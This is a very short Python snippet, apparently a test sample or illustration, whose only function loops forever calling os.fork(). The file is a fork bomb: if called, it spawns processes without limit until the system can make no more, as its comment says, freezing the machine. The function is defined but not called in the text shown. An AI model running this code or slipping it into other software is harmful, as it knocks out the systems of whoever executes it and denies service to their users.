# No process can be made.
import os


def f(x):
    while True:
        os.fork()
